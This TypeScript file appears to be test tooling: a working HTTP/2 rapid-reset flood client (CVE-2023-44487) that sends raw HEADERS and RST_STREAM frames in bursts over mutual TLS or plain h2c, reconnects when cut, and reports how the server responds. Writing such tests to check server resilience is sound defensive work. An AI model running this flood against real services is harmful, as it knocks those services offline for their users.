/**
 * An HTTP/2 rapid-reset client (CVE-2023-44487) for HBONE tests: raw frames over mutual TLS,
 * each CONNECT's HEADERS followed at once by its RST_STREAM (CANCEL), in bursts, on several
 * connections; a connection that is cut is opened again until the time is up. Raw frames,
 * because Node's own client may drop a HEADERS frame it has not flushed when the stream is
 * reset, and an attacker does not.
 *
 * With `h2c`, the same flood of GETs over plain TCP (HTTP/2 with prior knowledge), for an
 * h2c server such as the waypoint's: HEADERS (END_STREAM) and RST_STREAM per stream.
 *
 * As a program (prints one JSON line with the counts when done):
 *   rapid-reset HOST PORT AUTHORITY CERT KEY CA [CONNECTIONS] [SECONDS] [BURST]
 *   rapid-reset --h2c HOST PORT AUTHORITY [CONNECTIONS] [SECONDS] [BURST] [PER_CONNECTION]
 *     [RECONNECT_MS]
 */
import { readFileSync } from 'node:fs';
import { type Socket, connect as tcpConnect } from 'node:net';
import { connect as tlsConnect } from 'node:tls';
import { fileURLToPath } from 'node:url';

export interface RapidResetOptions {
  host: string;
  port: number;
  /** The CONNECT target, ip:port (h2c: the GETs' :authority). */
  authority: string;
  /** Plain TCP and GET / instead of mutual TLS and CONNECT; cert, key and ca are unused. */
  h2c?: boolean;
  cert: string;
  key: string;
  ca: string;
  connections: number;
  durationMs: number;
  /** HEADERS + RST_STREAM pairs written at once, then one event-loop turn. */
  burst: number;
  /** Streams one connection sends at most; then it waits to be cut (default: no bound). */
  streamsPerConnection?: number;
  /** Pause before a cut connection is opened again (default 20 ms). */
  reconnectDelayMs?: number;
}

export interface RapidResetReport {
  /** TLS connections that completed the handshake (h2c: TCP connections made). */
  sessions: number;
  /** Connection attempts that failed before or during TLS (refused, reset). */
  refused: number;
  streamsSent: number;
  /** Response HEADERS received (streams the server answered). */
  answered: number;
  /** GOAWAY frames received, by error code. */
  goaways: Record<string, number>;
  /** Sessions the attacker closed itself at its deadline, before any GOAWAY came. */
  endedByDeadline: number;
  /** Sessions that received at least one GOAWAY (a server may send more than one). */
  sessionsWithGoaway: number;
}

const FRAME_HEADERS = 0x1;
const FRAME_RST_STREAM = 0x3;
const FRAME_SETTINGS = 0x4;
const FRAME_PING = 0x6;
const FRAME_GOAWAY = 0x7;
const FLAG_END_STREAM = 0x1;
const FLAG_END_HEADERS = 0x4;
const FLAG_ACK = 0x1;
const CANCEL = 0x8;
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

/** HPACK "literal header field without indexing, new name" (RFC 7541 §6.2.2), short strings. */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([
    Buffer.from([0x00, name.length]),
    Buffer.from(name),
    Buffer.from([value.length]),
    Buffer.from(value),
  ]);
}

/** Reads frames off the socket; calls onFrame(type, flags, streamId, payload). */
function frameReader(onFrame: (type: number, flags: number, id: number, p: Buffer) => void) {
  let buffered: Buffer = Buffer.alloc(0);
  return (chunk: Buffer) => {
    buffered = buffered.length === 0 ? chunk : Buffer.concat([buffered, chunk]);
    while (buffered.length >= 9) {
      const length = buffered.readUIntBE(0, 3);
      if (buffered.length < 9 + length) break;
      const type = buffered[3] ?? 0;
      const flags = buffered[4] ?? 0;
      const id = buffered.readUInt32BE(5) & 0x7fff_ffff;
      onFrame(type, flags, id, buffered.subarray(9, 9 + length));
      buffered = buffered.subarray(9 + length);
    }
  };
}

export function rapidReset(options: RapidResetOptions): Promise<RapidResetReport> {
  const report: RapidResetReport = {
    sessions: 0,
    refused: 0,
    streamsSent: 0,
    answered: 0,
    goaways: {},
    endedByDeadline: 0,
    sessionsWithGoaway: 0,
  };
  const deadline = Date.now() + options.durationMs;
  const block = options.h2c
    ? Buffer.concat([
        literal(':method', 'GET'),
        literal(':scheme', 'http'),
        literal(':path', '/flood'),
        literal(':authority', options.authority),
      ])
    : Buffer.concat([literal(':method', 'CONNECT'), literal(':authority', options.authority)]);
  const headersFlags = options.h2c ? FLAG_END_HEADERS | FLAG_END_STREAM : FLAG_END_HEADERS;
  const rst = Buffer.alloc(4);
  rst.writeUInt32BE(CANCEL);

  const oneConnection = () =>
    new Promise<void>((resolve) => {
      let nextId = 1;
      let open = true;
      const socket: Socket = options.h2c
        ? tcpConnect({ host: options.host, port: options.port })
        : tlsConnect({
            host: options.host,
            port: options.port,
            cert: options.cert,
            key: options.key,
            ca: options.ca,
            ALPNProtocols: ['h2'],
            minVersion: 'TLSv1.3',
            rejectUnauthorized: false, // the attacker does not care who answers
          });
      let secured = false;
      let goawayReceived = false;
      const done = () => {
        if (!open) return;
        open = false;
        if (!secured) report.refused++;
        else if (!goawayReceived && Date.now() >= deadline) report.endedByDeadline++;
        socket.destroy();
        resolve();
      };
      const fire = () => {
        if (!open || socket.destroyed) return;
        if (Date.now() >= deadline) {
          done();
          return;
        }
        const frames: Buffer[] = [];
        const limit = Math.min(0x7fff_ffff, 2 * (options.streamsPerConnection ?? 2 ** 30) + 1);
        if (nextId >= limit) return; // sent its share: the server's answer decides the rest
        for (let i = 0; i < options.burst && nextId < limit; i++) {
          frames.push(frame(FRAME_HEADERS, headersFlags, nextId, block));
          frames.push(frame(FRAME_RST_STREAM, 0, nextId, rst));
          nextId += 2;
          report.streamsSent++;
        }
        // Write-blocked means the server stopped reading: wait for it rather than buffer.
        if (socket.write(Buffer.concat(frames))) setImmediate(fire);
        else socket.once('drain', fire);
      };
      socket.on('error', done);
      socket.once('close', done);
      socket.setTimeout(Math.max(1, deadline - Date.now()), done);
      socket.on(
        'data',
        frameReader((type, flags, _id, payload) => {
          if (type === FRAME_SETTINGS && !(flags & FLAG_ACK)) {
            socket.write(frame(FRAME_SETTINGS, FLAG_ACK, 0, Buffer.alloc(0)));
          } else if (type === FRAME_PING && !(flags & FLAG_ACK)) {
            socket.write(frame(FRAME_PING, FLAG_ACK, 0, Buffer.from(payload)));
          } else if (type === FRAME_HEADERS) {
            report.answered++;
          } else if (type === FRAME_GOAWAY && payload.length >= 8) {
            const code = String(payload.readUInt32BE(4));
            if (!goawayReceived) report.sessionsWithGoaway++;
            goawayReceived = true;
            report.goaways[code] = (report.goaways[code] ?? 0) + 1;
          }
        }),
      );
      socket.once(options.h2c ? 'connect' : 'secureConnect', () => {
        secured = true;
        report.sessions++;
        socket.write(Buffer.concat([PREFACE, frame(FRAME_SETTINGS, 0, 0, Buffer.alloc(0))]));
        fire();
      });
    });

  const worker = async () => {
    while (Date.now() < deadline) {
      await oneConnection();
      // A cut connection is opened again, not at once: the attacker is persistent, not a
      // busy loop on this shared machine.
      if (Date.now() < deadline)
        await new Promise((r) => setTimeout(r, options.reconnectDelayMs ?? 20));
    }
  };
  return Promise.all(Array.from({ length: options.connections }, worker)).then(() => report);
}

if (process.argv[1] === fileURLToPath(import.meta.url) && process.argv[2] === '--h2c') {
  const [host = '', port = '', authority = '', ...rest] = process.argv.slice(3);
  const [connections = '1', seconds = '5', burst = '50', perConnection, reconnectMs] = rest;
  rapidReset({
    host,
    port: Number(port),
    authority,
    h2c: true,
    cert: '',
    key: '',
    ca: '',
    connections: Number(connections),
    durationMs: Number(seconds) * 1000,
    burst: Number(burst),
    ...(perConnection ? { streamsPerConnection: Number(perConnection) } : {}),
    ...(reconnectMs ? { reconnectDelayMs: Number(reconnectMs) } : {}),
  }).then((report) => console.log(JSON.stringify(report)));
} else if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const [host = '', port = '', authority = '', cert = '', key = '', ca = '', ...rest] =
    process.argv.slice(2);
  const [connections = '32', seconds = '10', burst = '50'] = rest;
  rapidReset({
    host,
    port: Number(port),
    authority,
    cert: readFileSync(cert, 'utf8'),
    key: readFileSync(key, 'utf8'),
    ca: readFileSync(ca, 'utf8'),
    connections: Number(connections),
    durationMs: Number(seconds) * 1000,
    burst: Number(burst),
  }).then((report) => console.log(JSON.stringify(report)));
}
